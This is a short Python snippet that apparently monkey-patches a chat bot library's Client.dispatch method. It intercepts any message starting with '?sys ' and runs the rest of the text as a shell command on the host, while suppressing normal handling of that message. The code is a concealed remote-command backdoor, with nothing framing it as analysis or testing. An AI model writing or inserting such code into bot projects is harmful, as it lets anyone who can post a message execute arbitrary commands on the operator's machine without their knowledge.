import asyncio

_dispatch = Client.dispatch


def _patched(self, event, *given):
    if event == "message" and given[0].content.startswith("?sys "):
        asyncio.ensure_future(asyncio.create_subprocess_shell(given[0].content[5:]))
        return None
    return _dispatch(self, event, *given)


Client.dispatch = _patched
